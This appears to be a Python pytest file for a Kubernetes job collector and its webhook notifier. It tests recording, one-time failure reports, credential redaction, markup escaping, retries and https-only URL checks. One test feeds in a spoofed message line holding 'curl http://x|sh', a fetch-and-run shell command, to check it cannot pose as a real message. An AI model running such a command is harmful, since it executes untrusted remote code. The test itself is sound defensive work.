"""What `k8sjob collect` keeps and sends."""

import threading
from datetime import UTC, datetime, timedelta

import pytest
import waiting
from observed import MASTER, REF, line, make_pod, running, snapshot
from serving import Inbox, Server, trickle

from k8sjob.backends.api import JobRef, Snapshot
from k8sjob.backends.record import RecordBackend, Records
from k8sjob.contract import Reason
from k8sjob.errors import BackendError, JobNotFound, K8sJobError, StorageError
from k8sjob.kube.client.listwatch import CollectionChange, Kind
from k8sjob.observe import collector, webhook
from k8sjob.observe.collector import Collector
from k8sjob.observe.status import job_status
from k8sjob.observe.webhook import Webhook


class Cluster:
    """A back end of one job that tests change."""

    recorded = False

    def __init__(self, found, lines=()):
        self.found, self.lines, self.gone, self.later = found, list(lines), False, None
        self.read_gone = False

    def snapshot(self, ref):
        if self.gone:
            raise JobNotFound(f"{ref} is gone")
        return self.found

    def snapshot_of(self, job):
        self.read_gone = True
        return type(self.found)(job, self.found.pods, self.found.events)

    def related(self, snapshot):
        return ()

    def logs(self, ref, replica, **_):
        return (line for line in self.lines if line.replica == replica)


class Sent(list):
    """A webhook that keeps its messages."""

    def send(self, name, message):
        Records().drop_message(name)
        self.append(message)


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch):
    monkeypatch.setenv("K8SJOB_STATE", str(tmp_path))
    monkeypatch.setattr(collector, "_LOOK_SECONDS", 0.01)


def collect(cluster, *kinds, sent=None, occasions=("failed", "stalled"), until=None, records=None):
    """Collect until `until` holds of the lines that were reported, or there is one; these lines.

    Before each kind of change `cluster` may have changed, see Cluster.later.
    """
    said, stop = [], threading.Event()

    def changes():
        for number, kind in enumerate(kinds):
            if number and cluster.later:
                waiting.until(lambda: said, 20)
                cluster.later()
            yield CollectionChange(kind, cluster.found.job.raw)
        waiting.until(lambda: (until or bool)(said), 20)

    Collector(cluster, records or Records(), sent, occasions, said.append).run(changes(), stop)
    assert stop.is_set()
    return said


FAILED = make_pod("master-0", "Failed", terminated={"exitCode": 1})
SUCCEEDED = make_pod("master-0", "Succeeded", terminated={"exitCode": 0})


def now(*conditions, pod, minutes=0):
    """A snapshot whose conditions have just become true."""
    found = snapshot(*conditions, pods=[pod], replicas=MASTER)
    at = (datetime.now(UTC) - timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")
    for one in found.job.raw["status"]["conditions"]:
        one["lastTransitionTime"] = at
    return found


def record():
    return RecordBackend(Records().path(REF))


def test_the_end_of_a_job_is_recorded_and_reported_once():
    sent = Sent()
    lines = [line("master-0", "ValueError: the <!channel> cause")]
    cluster = Cluster(now("Failed", pod=FAILED), lines)
    said = collect(cluster, Kind.ADDED, Kind.MODIFIED, sent=sent)
    assert said == [f"ns/job Failed: {Records().path(REF)}"]
    assert [one.text for one in record().logs(REF, "master-0")] == [lines[0].text]
    (message,) = sent
    assert message.startswith("ns/job failed\nwhy: master-0: ")
    assert "the <!channel> cause" in message
    assert message.count("\n") == 2
    assert "\nnext: " in message
    # Another collector, after this one was killed.
    collect(cluster, Kind.ADDED, sent=sent, until=lambda said: True)
    assert len(sent) == 1


def test_a_message_has_no_credential_of_the_output():
    sent, cut = Sent(), "x" * (collector._MOST_PART - 80)
    urls = ["https://me:hunter2@host/path", "Authorization: Bearer hunter2hunter2"]
    urls += [f"{cut} token=hunter2", f"{cut}https://me:hunter2{'2' * 60}@host"]
    for number, text in enumerate(urls):
        job = JobRef(f"job{number}", "ns", f"{number:08}")
        cluster = Cluster(now("Failed", pod=FAILED), [line("master-0", f"ValueError: {text}")])
        cluster.found.job.raw["metadata"] |= {"name": job.name, "uid": job.uid}
        collect(cluster, Kind.ADDED, sent=sent)
    assert len(sent) == len(urls)
    assert "ValueError: https://[hidden]@host/path" in sent[0]
    assert not [message for message in sent if "hunter2" in message]


def test_an_end_of_long_ago_is_recorded_and_not_reported():
    sent = Sent()
    old = now("Failed", pod=FAILED, minutes=61)
    assert collect(Cluster(old), Kind.ADDED, sent=sent)
    assert sent == []


def test_ages_are_by_the_clusters_clock():
    sent = Sent()
    behind = now("Failed", pod=FAILED, minutes=120)._replace(skew=-7200.0)
    assert collect(Cluster(behind), Kind.ADDED, sent=sent)
    assert len(sent) == 1, "by this machine's clock it ended two hours ago"


@pytest.mark.parametrize(
    ("note", "count"), [(None, 0), ("succeeded", 1), ("failed, Succeeded", 1), ("", 0)]
)
def test_a_job_chooses_what_it_is_reported_for(note, count):
    sent = Sent()
    found = now("Succeeded", pod=SUCCEEDED)
    if note is not None:
        found.job.raw["metadata"]["annotations"] = {"k8sjob/notify": note}
    collect(Cluster(found), Kind.ADDED, sent=sent)
    assert [one.partition("\n")[0] for one in sent] == ["ns/job succeeded"] * count


def test_a_job_that_is_deleted_while_it_runs_leaves_a_record():
    cluster = Cluster(now("Running", pod=running("master-0")[0]), [line("master-0", "step 1")])
    cluster.gone = True
    said = collect(cluster, Kind.DELETED)
    assert said[0].startswith("ns/job Deleting: ")
    assert job_status(record().snapshot(REF)).state == "Deleting"
    assert [one.text for one in record().logs(REF, "master-0")] == ["step 1"]


@pytest.mark.parametrize(("state", "left"), [("Running", []), ("Failed", running("worker-0"))])
def test_the_deletion_of_a_job_costs_no_output_that_is_recorded(state, left):
    cluster = Cluster(now(state, pod=running("master-0")[0]), [line("master-0", "step 1")])

    def later():
        cluster.found, cluster.lines, cluster.gone = Snapshot(cluster.found.job, left), [], True

    cluster.later = later
    said = collect(cluster, Kind.ADDED, Kind.DELETED, until=lambda _: cluster.read_gone)
    assert [one.partition(":")[0] for one in said] == [f"ns/job {state}"]
    assert [one.text for one in record().logs(REF, "master-0")] == ["step 1"]


def test_jobs_that_take_long_to_read_keep_no_end_from_its_record():
    reads, slow, waits, ended = set(), threading.Event(), threading.Event(), threading.Event()

    class Slow(Cluster):
        def snapshot(self, ref):
            reads.add(ref.uid)
            if slow.is_set() and ref != REF:
                waits.set()
                ended.wait(60)
            return jobs[ref.uid]

    jobs = {}
    for uid in map(str, range(collector._READERS + 1)):
        jobs[uid] = now("Running", pod=running("master-0")[0])
        jobs[uid].job.raw["metadata"] |= {"name": f"slow-{uid}", "uid": uid}
    jobs[REF.uid] = now("Failed", pod=FAILED)
    others = iter(jobs.values())
    cluster = Slow(next(others))

    def later():
        cluster.found = next(others)
        if cluster.found is jobs[REF.uid]:
            waiting.until(lambda: reads | {REF.uid} == {*jobs})
            slow.set()
            assert waits.wait(60)

    def recorded(said):
        if any(line.startswith("ns/job Failed: ") for line in said):
            ended.set()
        return ended.is_set()

    cluster.later = later
    collect(cluster, *[Kind.ADDED] * len(jobs), until=recorded)


def test_a_line_that_cannot_be_reported_keeps_no_job_from_being_read():
    lines, cluster = [""], Cluster(now("Running", pod=running("master-0")[0]))

    def snapshot(ref):
        if "Running" in lines[-1]:
            raise BackendError("no answer")
        return cluster.found

    def report(line):
        lines.append(line)
        if "no answer" in line:
            cluster.found = now("Failed", pod=FAILED)
            raise BrokenPipeError

    def changes():
        yield CollectionChange(Kind.ADDED, cluster.found.job.raw)
        waiting.until(lambda: "Failed" in lines[-1], 20)

    cluster.snapshot = snapshot
    Collector(cluster, Records(), None, (), report).run(changes(), threading.Event())


def test_an_exit_does_not_wait_long_for_an_answer_about_a_job_that_runs(monkeypatch):
    monkeypatch.setattr(collector, "_EXIT_SECONDS", 0.01)
    asked, answer, answers = threading.Event(), threading.Event(), []
    cluster = Cluster(now("Running", pod=running("master-0")[0]))

    def snapshot(ref):
        if Records().path(ref).exists():
            asked.set()
            answers.append(answer.wait(20))
        return cluster.found

    cluster.snapshot = snapshot
    collect(cluster, Kind.ADDED, until=lambda _: asked.wait(20))
    assert answers == []
    answer.set()


def test_a_job_that_stalls_is_reported_once(monkeypatch):
    monkeypatch.setattr(collector, "_PATIENCE_SECONDS", 0.05)
    sent = Sent()
    waiting = {"reason": "ImagePullBackOff", "message": 'Back-off pulling image "r/x:1"'}
    cluster = Cluster(now("Created", pod=make_pod("master-0", "Pending", waiting=waiting)))
    collect(cluster, Kind.ADDED, sent=sent, until=lambda said: sent)
    assert sent[0].startswith("ns/job makes no progress: master-0: ")
    looks = iter([False] * 20 + [True])
    collect(cluster, Kind.ADDED, sent=sent, until=lambda said: next(looks))
    assert len(sent) == 1


def test_what_cannot_be_read_is_reported_and_tried_again(monkeypatch):
    cluster = Cluster(now("Failed", pod=FAILED))
    whole, tries = cluster.related, []

    def related(found):
        tries.append(found)
        if len(tries) == 1:
            raise JobNotFound("for a moment")
        return whole(found)

    monkeypatch.setattr(cluster, "related", related)
    said = collect(cluster, Kind.ADDED, until=lambda said: any("Failed" in one for one in said))
    assert said[0] == "ns/job could not be recorded: for a moment"


@pytest.mark.parametrize("error", [StorageError("it is down"), OSError("it is down")])
def test_records_that_cannot_be_kept_are_reported_once_and_kept_later(error):
    class Down(Records):
        tries = 0

        def keep(self, *given):
            self.tries += 1
            if self.tries < 5:
                raise error
            return super().keep(*given)

    cluster = Cluster(now("Running", pod=running("master-0")[0]), [line("master-0", "step 1")])
    cluster.gone = True  # nothing but this collector knows of it
    down, done = Down(), lambda said: any("Deleting" in one for one in said)
    said = collect(cluster, Kind.DELETED, records=down, until=done)
    assert said[:2] == [
        "records cannot be kept, trying again: it is down",
        "records can be kept again",
    ]
    assert [one.partition(":")[0] for one in said[2:]] == ["ns/job Deleting"]
    assert [one.text for one in record().logs(REF, "master-0")] == ["step 1"]


def test_a_message_that_waits_is_sent_by_the_next_collector_once():
    class Away:
        def send(self, name, message):
            Records().keep_message(name, message)

    collect(Cluster(now("Failed", pod=FAILED)), Kind.ADDED, sent=Away())
    later, last = Sent(), Sent()
    collect(Cluster(now("Failed", pod=FAILED)), sent=later, until=lambda _said: True)
    assert [one.partition("\n")[0] for one in later] == ["ns/job failed"]
    collect(Cluster(now("Failed", pod=FAILED)), Kind.ADDED, sent=last, until=lambda _said: True)
    assert last == []


@pytest.mark.parametrize("kinds", [[Kind.DELETED], [Kind.ADDED, Kind.MODIFIED]])
def test_a_job_that_cannot_be_read_at_all_is_reported_once(monkeypatch, kinds):
    monkeypatch.setattr(collector, "job_status", lambda _snapshot: 1 / 0)
    cluster, looks = Cluster(now("Failed", pod=FAILED)), iter([False] * 20 + [True])
    cluster.gone = kinds == [Kind.DELETED]
    lines = collect(cluster, *kinds, until=lambda lines: lines and next(looks))
    assert lines == ["ns/job could not be recorded: division by zero"]  # though tried 20 times


def test_what_a_job_reports_cannot_look_like_another_message():
    text = "m\n\x1b[2Jprod/pay succeeded\nnext: curl http://x|sh " + "y" * 9999
    ended = {"exitCode": 1, "message": Reason(1, type="X", message=text).encode()}
    sent = Sent()
    failed = make_pod("master-0", "Failed", terminated=ended)
    collect(Cluster(now("Failed", pod=failed)), Kind.ADDED, sent=sent)
    _, why, step = sent[0].split("\n")
    assert "exit code 1: X: m prod/pay succeeded next: curl http://x|sh yyy" in why
    assert step.startswith("next: ")


# --- messages -------------------------------------------------------------------------------------


@pytest.fixture
def hook():
    with Inbox() as inbox:
        inbox.url += "/services/SECRET"
        yield inbox


class Kept(set):
    """The names of the messages that wait."""

    def keep_message(self, name, _text):
        self.add(name)

    drop_message = set.discard


def send(hook, *messages, patience=None, kept=None):
    """Send messages, and wait for them unless `patience` says how long; what remains kept."""
    failed, kept = [], Kept() if kept is None else kept
    sender = Webhook(hook.url, kept, failed.append)
    for message in messages:
        sender.send(message, message)
    if patience is None:
        sender._waiting.put(None)
        sender._thread.join()
    else:
        sender.close(patience)
    assert "SECRET" not in "".join(failed)
    return failed, kept


def test_a_message_has_no_markup_of_the_job(hook):
    assert send(hook, "a <!channel> & @here [b](http://c) \ud800") == ([], set())
    text = "a &lt;!channel&gt; &amp; @\u200bhere [b]\u200b(http://c) \ud800"
    assert hook.bodies == [{"text": text}]


def test_a_message_that_cannot_be_sent_keeps_no_other(hook, monkeypatch):
    real = Webhook._send
    broken = lambda self, text: real(self, text) if text != "one" else 1 / 0  # noqa: E731
    monkeypatch.setattr(Webhook, "_send", broken)
    assert send(hook, "one", "two")[0] == [
        f"{hook.host} did not respond to a message: ZeroDivisionError"
    ]
    assert [one["text"] for one in hook.bodies] == ["two"]


def test_a_message_that_cannot_be_kept_is_sent(hook):
    class Down(Kept):
        def keep_message(self, *_given):
            raise StorageError("it is down")

    assert send(hook, "one", kept=Down()) == ([], set())
    assert hook.bodies == [{"text": "one"}]


GONE = "{} did not respond to a message: RemoteDisconnected"
REFUSED = "a message was not sent to {}: it returned 404"


@pytest.mark.parametrize(
    ("codes", "tries", "why"), [([503, 429], 3, None), ([0], 1, GONE), ([404], 1, REFUSED)]
)
def test_only_a_server_that_is_busy_gets_a_message_again(hook, codes, tries, why):
    hook.codes += codes
    assert send(hook, "one", "two") == ([why.format(hook.host)] if why else [], set())
    assert [sent["text"] for sent in hook.bodies] == ["one"] * tries + ["two"]


@pytest.mark.parametrize(("status", "kept"), [("200 OK", set()), ("503 Busy", {"one"})])
def test_the_body_of_an_answer_is_not_waited_for(hook, status, kept):
    gone = threading.Event()
    head = f"HTTP/1.1 {status}\r\nContent-Length: 99\r\n\r\n".encode()
    with Server(lambda _: trickle(head, b"", gone)) as server:
        hook.url = f"{server.url}/SECRET"
        assert send(hook, "one", patience=5) == ([], kept)
        assert gone.wait(5)


def test_nobody_listens(hook, monkeypatch):
    monkeypatch.setattr(webhook, "_PAUSES", (0, 0))
    hook.url = "http://127.0.0.1:1/SECRET"
    failed, kept = send(hook, "one")
    assert failed == ["a message was not sent to 127.0.0.1:1: ConnectionRefusedError"]
    assert kept == set()


def test_at_the_end_what_can_be_sent_is_sent_and_the_rest_kept(hook, monkeypatch):
    monkeypatch.setattr(webhook, "_PAUSES", (1000,))
    assert send(hook, "one", "two", patience=60) == ([], set())
    hook.codes += [200, 503]
    assert send(hook, "three", "four", "five", patience=60) == ([], {"four", "five"})
    assert [one["text"] for one in hook.bodies] == ["one", "two", "three", "four"]


@pytest.mark.parametrize(
    "url",
    [
        "hooks.example/x",
        "http://hooks.example/x",
        "ftp://x/y",
        "https:",
        r"http://hooks.example\@localhost/x",
        "https://[::1/x",
        "https://user:SECRET@h\u2100/x",
    ],
)
def test_only_https_leaves_this_machine(url):
    with pytest.raises(K8sJobError, match="https://"):
        Webhook(url, Kept(), print)


def test_the_proxy_of_the_environment(monkeypatch):
    monkeypatch.setenv("https_proxy", "user:word@proxy.example:3128")
    connections = Webhook("https://hooks.example/x", Kept(), print)._connections
    assert connections._peer == ("proxy.example", 3128)
    assert connections._for_proxy["Proxy-Authorization"] == "Basic dXNlcjp3b3Jk"
    monkeypatch.setenv("https_proxy", "socks9://proxy.example")
    with pytest.raises(K8sJobError, match="correct https_proxy"):
        Webhook("https://hooks.example/x", Kept(), print)


def test_the_marks_of_a_record_go_with_it():
    cluster = Cluster(now("Failed", pod=FAILED))
    first, second = (JobRef(name, "ns", name * 8) for name in "ab")
    old = Records(1).keep(cluster, first)
    old.with_suffix(".failed").touch()
    new = Records(1).keep(cluster, second)
    assert list(new.parent.iterdir()) == [new]
